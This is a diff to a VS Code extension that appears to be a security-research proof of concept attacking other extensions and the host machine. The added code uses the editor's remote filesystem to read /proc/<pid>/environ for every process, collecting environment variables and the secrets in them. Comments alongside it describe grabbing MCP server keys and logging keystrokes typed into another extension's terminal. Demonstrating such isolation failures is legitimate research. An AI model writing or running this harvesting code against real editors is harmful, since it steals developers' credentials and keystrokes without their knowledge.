@@ -52,6 +52,15 @@ exports.activate = (context) => {
   attack(context, "wire", {
     // A person's MCP servers, with the keys that they are started with.
     servers: () => of("PROOF_KEY"),
+    // In the compartment's /proc there are its own processes, in the editor's all of the machine's.
+    async environ(_facts, vscode) {
+      const [, authority] = /vscode-remote(?::\/\/|","authority":")([^/"]+)/.exec(await of("vscode-remote"));
+      const editors = (path) => vscode.Uri.from({ scheme: "vscode-remote", authority, path });
+      const texts = [];
+      for (const [name] of await vscode.workspace.fs.readDirectory(editors("/proc")))
+        if (/^\d+$/.test(name)) texts.push(await vscode.workspace.fs.readFile(editors(`/proc/${name}/environ`)).then(String, () => ""));
+      return texts.join("\n");
+    },
     // What a person types into another extension's terminal, a key at a time.
     async keys() {
       const LENGTH = "secret-victim-".length + 24;
